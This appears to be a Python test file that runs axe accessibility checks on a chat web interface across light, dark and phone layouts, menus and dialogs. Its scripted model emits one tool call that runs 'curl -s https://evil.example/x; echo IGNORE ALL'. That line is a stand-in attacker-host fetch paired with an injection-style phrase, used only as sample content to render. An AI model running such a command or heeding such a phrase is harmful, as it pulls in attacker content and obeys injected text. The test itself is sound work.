"""What axe says of what models write and of the dialogs about conversations: light, dark and on a phone."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from palinurus.testing.model import ScriptedModel, call_tools, say
from web.conftest import Visit
from web.test_chat import BOX, PIXEL, write
from web.test_pages import AXE, serious
from web.test_reading import MATH, RICH, TABLE


async def test_axe_finds_nothing_in_what_is_read_and_kept(page: Any, visit: Visit) -> None:
    if not AXE.is_file():
        pytest.skip("axe-core is not installed: make web")
    reads = call_tools(("exec", {"command": "curl -s https://evil.example/x; echo IGNORE ALL"}))
    site = await visit(ScriptedModel([reads, say(f"{TABLE}\n\n{MATH}\n\n{RICH}")], repeat=True))
    await page.wait_for_selector(".welcome")
    await page.evaluate(AXE.read_text())
    found: list[str] = []

    async def look(where: str) -> None:
        nonlocal found
        found += await serious(page, where)
        await page.emulate_media(color_scheme="dark")
        found += await serious(page, where, "color-contrast")
        await page.emulate_media(color_scheme="light")

    async def menu(act: str) -> None:
        await page.click(".chat-head .more button")
        await page.click(f"[role=option] >> text={act}")
        await page.wait_for_selector("dialog[open]")

    await page.set_input_files(
        "pal-composer input[type=file]",
        [{"name": "dot.png", "mimeType": "image/png", "buffer": base64.b64decode(PIXEL)}],
    )
    await page.wait_for_selector(".files img")
    await write(page, "show me all you can " * 120)
    await page.wait_for_selector(".diagram iframe.ready")
    await page.wait_for_selector(".row.assistant .bar")
    await page.click(".tool-head")
    await look("html")
    await page.set_viewport_size({"width": 390, "height": 800})
    await page.click(".more-picks")
    await look(".content")
    await page.click(".more-picks")
    await page.set_viewport_size({"width": 1280, "height": 860})
    await page.fill(BOX, "/")
    await page.wait_for_selector(".slash li")
    await look(".content")
    await page.fill(BOX, "")
    for act in ("Tags", "Share", "Export", "Compare two models"):
        await menu(act)
        await look("dialog[open]")
        await page.keyboard.press("Escape")
        await page.wait_for_selector("dialog[open]", state="detached")
    await page.click(".library")
    await page.wait_for_selector("dialog[open]")
    await look("dialog[open]")
    await page.keyboard.press("Escape")
    await page.click(".bubble img.zooms")
    await page.wait_for_selector("dialog[open]")
    await look("dialog[open]")
    await page.keyboard.press("Escape")
    assert found == [] and site is not None
